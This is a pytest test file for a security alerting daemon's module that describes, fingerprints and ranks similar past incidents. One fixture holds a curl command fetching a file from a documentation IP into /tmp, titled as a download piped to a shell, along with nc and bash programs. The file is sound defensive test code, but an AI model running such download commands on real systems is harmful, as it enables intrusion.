"""What represents an incident, how found ones are ranked, and what they are said to share."""

import math
from collections.abc import Generator

import pytest
from msgspec.structs import replace

from daemon.enrichment.resemblance import (
    MOST,
    PAGE,
    Hit,
    Nearest,
    Newest,
    Remembered,
    Step,
    describe,
    from_payload,
    point_id,
    rank,
    remembered,
    seek,
    shared,
    similar,
    to_payload,
)
from daemon.model import Evidence
from tests.doubles.values import T0, a_rule, an_alert


def an_evidence(number: int, text: str, **fields: str) -> Evidence:
    return Evidence(id=f"E{number}", at=T0, source="audit", text=text, fields=fields)


def a_past(number: int, **changes: object) -> Remembered:
    past = remembered(an_alert(number, entity=f"User=u{number}", last_at=T0 + number))
    return replace(past, **changes)


class Store:
    """An in-memory twin of a vector store: points with a score each, pages cut at the limit."""

    def __init__(self, *hits: Hit) -> None:
        self.hits = hits
        self.asked: list[Step] = []

    def run(self, limit: int, own: str = "", now: float = T0 + 10**6) -> list[Hit]:
        steps: Generator[Step, list[Hit], list[Hit]] = seek(limit, own, now)
        try:
            step = next(steps)
            while True:
                self.asked.append(step)
                step = steps.send(self._answer(step))
        except StopIteration as stop:
            found: list[Hit] = stop.value
            return found

    def _answer(self, step: Step) -> list[Hit]:
        others = [hit for hit in self.hits if hit.past.incident_id != step.own]
        if isinstance(step, Nearest):
            fresh = [hit for hit in others if hit.past.wording not in step.without]
            return sorted(fresh, key=lambda hit: -hit.score)[: step.limit]
        same = [hit for hit in others if hit.past.wording == step.wording]
        fresh = [hit for hit in same if hit.past.fingerprint not in step.without]
        wanted = [hit for hit in fresh if hit.past.known] if step.known else fresh
        return sorted(wanted, key=lambda hit: -hit.past.at)[: step.limit]


def test_the_text_holds_the_cause_and_no_actor() -> None:
    evidence = (
        an_evidence(1, "raw", CommandLine="curl http://203.0.113.9/x -o /tmp/a77", Image="/usr/bin/curl"),
        an_evidence(2, "Failed password for root from 198.51.100.9 port 4022"),
    )
    text = describe(an_alert(because='CommandLine contains "x" (pid 4123)', evidence=evidence))
    assert text.splitlines() == [
        "Download piped to a shell",
        'CommandLine contains "x" (pid <num>)',
        "curl http://<host>/x -o /tmp/<name>",
        "Failed password for root from <ip> port <num>",
    ]


def test_repeated_records_count_once_and_the_text_is_bounded() -> None:
    repeats = tuple(an_evidence(n, f"Failed password from 192.0.2.{n}") for n in range(1, 200))
    assert describe(an_alert(evidence=repeats)).count("Failed password") == 1
    huge = tuple(an_evidence(n, f"{chr(96 + n)}" * 100_000) for n in range(1, 20))
    assert len(describe(an_alert(because="b" * 100_000, rule=a_rule(title="t" * 100_000), evidence=huge))) <= 1500


def test_an_alert_without_anything_still_has_a_text() -> None:
    bare = an_alert(because="", evidence=(), entity="")
    assert describe(bare) == "Download piped to a shell"
    assert remembered(bare).programs == ()


def test_the_fingerprint_is_of_rule_entity_and_masked_text() -> None:
    one = remembered(an_alert(1, because="pid 1 from 192.0.2.1"))
    assert one.fingerprint == remembered(an_alert(2, because="pid 2 from 192.0.2.7")).fingerprint
    assert one.fingerprint != remembered(an_alert(2, because="pid 2 by 192.0.2.7")).fingerprint
    assert one.fingerprint != remembered(an_alert(1, because="pid 1 from 192.0.2.1", entity="User=root")).fingerprint
    assert (
        one.fingerprint != remembered(an_alert(1, because="pid 1 from 192.0.2.1", rule=a_rule(id="other"))).fingerprint
    )


def test_point_ids_are_stable_uuids() -> None:
    assert point_id("inc_1") == "005f064a-5d2f-52f3-bb6a-03c79a68d26c"
    assert point_id("inc_1") != point_id("inc_2")
    assert len(point_id("\ud800" * 9)) == 36


def test_hostile_values_are_bounded_and_encodable() -> None:
    alert = an_alert(entity="e\ud800" * 10**6, host="h" * 10**6, last_at=math.nan)
    past = remembered(alert, outcome="o" * 10**6)
    assert len(past.entity) <= 1000
    assert len(past.host) <= 1000
    assert len(past.outcome) <= 2000
    assert past.at == 0.0
    past.entity.encode()


def test_programs_are_names_without_directories() -> None:
    evidence = (
        an_evidence(1, "x", Image="/usr/bin/curl", comm='"curl"'),
        an_evidence(2, "y", exe="/usr/sbin/sshd", program=""),
    )
    assert remembered(an_alert(evidence=evidence)).programs == ("curl", "sshd")


def test_a_payload_comes_back_as_it_went() -> None:
    past = remembered(an_alert(), outcome="false positive")
    payload = to_payload(past, "digest")
    assert payload["embedder"] == "digest"
    assert payload["known"] == 1
    back = from_payload(payload, 0.5)
    assert back == Hit(0.5, replace(past, embedder="digest"))


@pytest.mark.parametrize(
    "change",
    [{"at": "yesterday"}, {"schema": 99}, {"techniques": [1]}, {"count": None}],
    ids=str,
)
def test_points_that_are_not_ours_are_passed_over(change: dict[str, object]) -> None:
    assert from_payload({**to_payload(remembered(an_alert()), ""), **change}, 0.9) is None


def test_nothing_and_nan_are_passed_over() -> None:
    assert from_payload(None, 0.9) is None
    assert from_payload({}, 0.9) is None
    assert from_payload(to_payload(remembered(an_alert()), ""), math.nan) is None


def test_rank_is_score_then_outcome_then_recency() -> None:
    hits = [
        Hit(0.801, a_past(1, at=T0 + 50)),
        Hit(0.799, a_past(2, at=T0 + 90)),
        Hit(0.798, a_past(3, at=T0 + 10, known=1, outcome="benign")),
        Hit(0.91, a_past(4, at=T0)),
    ]
    ranked = [hit.past.at - T0 for hit in rank(hits, 9, now=T0 + 100)]
    assert ranked == [0, 10, 90, 50]


def test_a_date_in_the_future_is_no_newer_than_now() -> None:
    future = Hit(0.8, a_past(1, at=T0 + 10**9, incident_id="a"))
    present = Hit(0.8, a_past(2, at=T0, incident_id="b"))
    assert rank([future, present], 1, now=T0)[0] is present


def test_one_result_per_fingerprint_its_best() -> None:
    repeats = [Hit(0.9, a_past(n, fingerprint="f", at=T0 + n)) for n in range(10)]
    solved = Hit(0.9, a_past(99, fingerprint="f", at=T0 - 9, known=1, outcome="benign"))
    other = Hit(0.7, a_past(50, fingerprint="g"))
    assert Store(*repeats, solved, other).run(3) == [solved, other]


def test_a_thousand_repeats_hide_neither_others_nor_the_one_with_an_outcome() -> None:
    repeats = [Hit(0.95, a_past(n, wording="F", fingerprint="f", at=T0 + n)) for n in range(1000)]
    solved = Hit(0.95, a_past(2000, wording="F", fingerprint="f", at=T0 - 9, known=1, outcome="benign"))
    more = [Hit(0.9, a_past(n, wording="G", fingerprint="g", at=T0 + n)) for n in range(1000)]
    last = Hit(0.6, a_past(3000, wording="H", fingerprint="h"))
    found = Store(*repeats, *more, solved, last).run(3)
    assert [hit.past.fingerprint for hit in found] == ["f", "g", "h"]
    assert found[0].past.outcome == "benign"
    assert found[1].past.at == T0 + 999


def test_of_many_entities_with_one_wording_the_solved_and_the_newest_are_found() -> None:
    many = [Hit(0.95, a_past(n, wording="F", fingerprint=f"f{n}", at=T0 + n)) for n in range(1000)]
    solved = Hit(0.95, a_past(2000, wording="F", fingerprint="f", at=T0 - 9, known=1, outcome="benign"))
    found = Store(*many, solved).run(3)
    assert [hit.past.at - T0 for hit in found] == [-9, 999, 998]


def test_a_solved_entity_whose_repeats_are_newer_is_shown_once_and_solved() -> None:
    newer = [Hit(0.95, a_past(n, wording="F", fingerprint="f", at=T0 + 100 + n)) for n in range(200)]
    solved = Hit(0.95, a_past(2000, wording="F", fingerprint="f", at=T0, known=1, outcome="benign"))
    other = Hit(0.95, a_past(1, wording="F", fingerprint="g"))
    assert Store(*newer, solved, other).run(3) == [solved, other]


def test_its_own_incident_is_asked_away_in_every_step() -> None:
    own = Hit(1.0, a_past(1, incident_id="mine", wording="F", fingerprint="f", at=T0 + 10**5, known=1, outcome="x"))
    repeats = [Hit(1.0, a_past(n, wording="F", fingerprint="f")) for n in range(2, PAGE + 10)]
    store = Store(own, *repeats)
    assert "mine" not in {hit.past.incident_id for hit in store.run(3, own="mine")}
    assert {step.own for step in store.asked} == {"mine"}
    assert any(isinstance(step, Newest) for step in store.asked)


@pytest.mark.parametrize("limit", [0, -1])
def test_a_limit_of_nothing_asks_nothing(limit: int) -> None:
    store = Store(Hit(0.9, a_past(1)))
    assert store.run(limit) == []
    assert store.asked == []


def test_a_huge_limit_is_bounded() -> None:
    store = Store(*(Hit(0.9, a_past(n, wording=str(n), fingerprint=str(n))) for n in range(2000)))
    assert len(store.run(10**9)) == MOST
    assert len(store.asked) <= 4 * MOST


def test_why_names_what_is_shared() -> None:
    mine = a_past(1, entity="User=bob", programs=("nc", "bash"), techniques=("T1059.004",))
    assert shared(mine, replace(mine, rule_id="x", entity="y", programs=(), techniques=())) == "similar wording"
    assert shared(mine, replace(mine, entity="y", programs=("nc",), techniques=())) == "same rule, same program nc"
    assert shared(mine, mine) == "same rule, same entity, same programs bash, nc, same technique T1059.004"
    assert shared(replace(mine, entity=""), replace(mine, entity="", rule_id="x", programs=(), techniques=())) == (
        "similar wording"
    )


def test_a_similar_carries_the_outcome_and_a_score_of_at_most_one() -> None:
    found = similar(Hit(1.0000002, a_past(1, known=1, outcome="disk replaced")), "same rule")
    assert (found.score, found.outcome, found.why, found.entity) == (1.0, "disk replaced", "same rule", "User=u1")
